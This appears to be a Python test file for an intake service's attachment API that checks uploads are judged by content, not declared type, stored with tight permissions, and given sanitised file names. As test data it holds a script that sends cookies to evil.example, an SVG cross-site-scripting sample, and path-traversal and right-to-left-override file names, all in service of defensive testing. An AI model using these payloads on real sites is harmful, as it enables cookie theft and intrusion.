"""Attachments through intake's real HTTP API: a file is taken for what its content is, not for the type
it was sent with, and its name is kept only as a safe label."""
import base64
import stat
from pathlib import Path

import pytest
import requests
import sqlalchemy as sa

from services.intake.service import IntakeService
from tests.helpers import api_for, connected, count_rows, thai_case
from tests.samples import png_1x1, small_pdf

PNG, PDF = png_1x1(), small_pdf()
HTML = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/'+document.cookie</script>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(document.domain)</script></svg>")


def attachment(filename, content_type, data):
    return {"filename": filename, "content_type": content_type, "content_base64": base64.b64encode(data).decode()}


@pytest.fixture
def intake(container_factory, embedded_config):
    container_factory(IntakeService, embedded_config).start()
    return api_for(embedded_config)


def stored_files(config):
    root = Path(config["DATA_DIR"]) / "attachments"
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


@pytest.mark.parametrize("filename,declared,data", [
    ("หนังสือร้องเรียน.pdf", "application/pdf", HTML),
    ("ภาพถนน.png", "image/png", SVG),
    ("ภาพถนน.jpg", "image/jpeg", PNG),  # an accepted type, but not the one declared
    ("บันทึก.txt", "text/plain", HTML),
    ("สัญญา.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
     b"PK\x03\x04" + b"0" * 40),
], ids=["html-as-pdf", "svg-as-png", "png-as-jpeg", "html-as-text", "zip-as-docx"])
def test_a_file_whose_content_is_not_its_declared_type_gets_400_and_nothing_is_stored(
        intake, embedded_config, filename, declared, data):
    response = intake.post_case(thai_case(attachments=[attachment("ภาพถนน.png", "image/png", PNG),
                                                       attachment(filename, declared, data)]))

    assert response.status_code == 400, response.text
    errors = response.json()["errors"]["attachments"]
    assert len(errors) == 1 and f"declared {declared}, but the content is" in errors[0]
    assert count_rows(embedded_config, "intake", "cases") == 0
    assert count_rows(embedded_config, "intake", "attachments") == 0
    assert count_rows(embedded_config, "intake", "outbox") == 0
    assert stored_files(embedded_config) == []  # not even the good file sent with it


def test_a_real_pdf_and_png_are_accepted_and_kept_only_for_the_sites_user(intake, embedded_config):
    response = intake.post_case(thai_case(attachments=[attachment("คำร้อง.pdf", "application/pdf", PDF),
                                                       attachment("ถนนชำรุด.png", "image/png", PNG)]))

    assert response.status_code == 201, response.text
    with connected(embedded_config, "intake") as conn:
        rows = conn.execute(sa.text("SELECT filename, content_type, size FROM attachments ORDER BY filename")).all()
    assert [tuple(r) for r in rows] == [("คำร้อง.pdf", "application/pdf", len(PDF)),
                                        ("ถนนชำรุด.png", "image/png", len(PNG))]
    files = stored_files(embedded_config)
    assert sorted(f.read_bytes() for f in files) == sorted([PDF, PNG])
    root = Path(embedded_config["DATA_DIR"]) / "attachments"
    assert all(stat.S_IMODE(f.stat().st_mode) == 0o600 for f in files)
    assert {stat.S_IMODE(d.stat().st_mode) for d in [root, *(f.parent for f in files)]} == {0o700}


def test_a_file_name_is_stored_as_a_safe_label(intake, embedded_config):
    names = ["../../etc/cron.d/งาน.pdf", "C:\\Users\\สมชาย\\ใบเสร็จ.pdf", "invoice\u202efdp.exe",
             "รายงาน\u200b\u2066.pdf", "ก" * 200 + ".pdf", ".htaccess"]
    response = intake.post_case(thai_case(attachments=[attachment(n, "application/pdf", PDF) for n in names]))
    assert response.status_code == 201, response.text

    with connected(embedded_config, "intake") as conn:
        stored = set(conn.execute(sa.text("SELECT filename FROM attachments")).scalars())
    assert stored == {"งาน.pdf", "ใบเสร็จ.pdf", "invoicefdp.exe.pdf", "รายงาน.pdf",
                      "ก" * 116 + ".pdf", "htaccess.pdf"}
    for name in stored:
        assert "/" not in name and "\\" not in name and len(name) <= 120
        assert not any(ord(c) < 32 or 0x200b <= ord(c) <= 0x200f or 0x202a <= ord(c) <= 0x202e
                       or 0x2066 <= ord(c) <= 0x2069 for c in name)


def test_the_refusal_is_in_the_api_error_shape(intake):
    response = requests.post(f"{intake.base}/api/v1/cases", timeout=10, json=thai_case(
        attachments=[attachment("หนังสือ.pdf", "application/pdf", HTML)]))
    assert response.status_code == 400
    assert response.json()["error"] == "invalid_request"
    assert "text/html" in response.json()["errors"]["attachments"][0]
